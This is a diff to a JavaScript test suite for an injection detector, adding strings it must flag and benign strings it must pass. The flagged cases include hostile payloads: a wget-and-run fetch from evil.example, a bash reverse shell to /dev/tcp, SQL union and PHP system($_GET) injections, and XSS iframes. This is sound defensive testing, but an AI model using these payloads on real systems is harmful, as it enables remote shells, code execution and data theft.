@@ -152,6 +152,20 @@ describe('what is found in a value', () => {
     ['unixShell', 'hello; `id`'],
     ['unixShell', `standard && cat /etc/hostname`],
     ['headerSplit', `\u560a\u560dSet-Cookie:x=1`],
+    ['php', `assert(system('ls'))`],
+    ['php', `file name then system($_GET['c'])`],
+    ['php', `what is it; include $_GET['page'];`],
+    ['php', `$id = $_GET['id'];`],
+    ['noSql', `$func`],
+    ['sqli', `(case when (select 1)=1 then name else id end)`],
+    ['sqli', `id, case when substr(version(),1,1)=8 then 1 else 2 end`],
+    ['sqliExtended', `concat(database(),0x3a)`],
+    ['sqli', `1 union select name, pass from users`],
+    ['unixShell', `; wget -q evil.example/x && sh x`],
+    ['unixShell', `while read x; do bash -i >& /dev/tcp/10.0.0.1/80; done`],
+    ['xss', `<iframe src="https://evil.example/embed/">`],
+    ['xss', `<iframe src="https://www.youtube.com/embed/a" onload=alert(1)>`],
+    ['xss', `<script>new Image().src</script>`],
   ])('finds %s in %s', (kind, text) => {
     expect(kinds(text)).toContain(kind)
   })
@@ -258,6 +272,19 @@ describe('what is found in a value', () => {
     `please remove phpinfo()`,
     `Credentials are read from ~/.aws/credentials unless a profile is named`,
     `Put the machine into your .netrc file`,
+    // Questions about code, and code that breaks out of nothing.
+    'Why is $_POST["name"] empty when the form has a name field?',
+    '```php\n<?php\n$name = htmlspecialchars($_POST["name"]);\n```',
+    `<?xml version="1.0"?><note>In Node, require('path').join('a', 'b')</note>`,
+    `Two queries: SELECT a, b FROM t1 UNION SELECT a, b FROM t2 and one has duplicates`,
+    `case when qty > 9 then 'many' when qty > 1 then 'some' else 'one' end as size`,
+    `coalesce(nullif(trim(name), ''), 'unknown')`,
+    `The guide says: wget -qO- https://get.example.com | bash -s. Is that safe?`,
+    `while true; do ping -c 1 10.0.0.5 || echo "down at $(date)"; sleep 60; done`,
+    `netstat -an | findstr 8080 shows nothing`,
+    `powershell: Get-ChildItem -Recurse | Sort-Object Length`,
+    `<iframe width="560" src="https://www.youtube.com/embed/dQw4w9WgXcQ" allowfullscreen></iframe>`,
+    `test: <script> in names is escaped`,
   ])('finds nothing in %s', (text) => {
     expect(kinds(text)).toEqual([])
   })
